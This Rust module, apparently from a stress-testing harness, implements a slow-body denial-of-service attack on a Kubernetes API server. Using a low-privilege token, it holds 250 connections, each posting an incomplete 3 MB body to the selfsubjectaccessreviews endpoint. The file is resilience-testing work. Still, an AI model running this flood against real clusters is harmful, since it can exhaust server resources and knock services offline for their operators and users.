//! Bodies that never end.
//!
//! In:    the API server's port, a token without rights
//! Out:   how many bodies were held, and what the server said meanwhile
//! Calls: floods
//! Holds: 250 connections of 3 MB each at most
//! Upstream: none

use std::io::Write as _;
use std::time::Duration;

use rig::http::{Credential, Secure, Wire};

use crate::flood::Span;
use crate::target::{Target, VIEWER};

const COUNT: usize = 250;
const BYTES: usize = 3 << 20;
/// Where somebody without rights may still post: questions about oneself.
const REVIEW: &str = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";

/// 250 bodies of 3 MB without their last byte.
pub(super) fn slow(target: &Target<'_>, span: &Span) -> anyhow::Result<String> {
    let secure = Secure::client(&Credential::Token(VIEWER.to_owned()), &[])?;
    let head = format!(
        "POST {REVIEW} HTTP/1.1\r\nHost: localhost\r\n{}Content-Type: application/json\r\nContent-Length: {BYTES}\r\n\r\n",
        secure.authorization()
    );
    let piece = vec![b' '; 64 << 10];
    // Each with what is left to send.
    let mut held: Vec<(Wire, usize)> = Vec::new();
    let (mut opened, mut sent) = (0_usize, 0_usize);
    while span.goes_on() {
        if held.len() < COUNT {
            let wire = Wire::open(target.ports.api, Some(&secure), Duration::from_millis(300));
            if let Ok(mut wire) = wire
                && wire.write_all(head.as_bytes()).is_ok()
            {
                held.push((wire, BYTES - 1));
                opened += 1;
            }
        }
        held.retain_mut(|(wire, left)| {
            if !span.goes_on() || *left == 0 {
                return true;
            }
            let part = (*left).min(piece.len());
            let written = wire.write_all(&piece[..part]).and_then(|()| wire.flush());
            if written.is_ok() {
                *left -= part;
                sent += part;
            }
            written.is_ok()
        });
        if held.len() == COUNT && held.iter().all(|(_, left)| *left == 0) {
            span.sit_out();
        }
    }
    Ok(format!(
        "{opened} bodies begun, {} MB sent, {} open at the end",
        sent / 1_000_000,
        held.len()
    ))
}
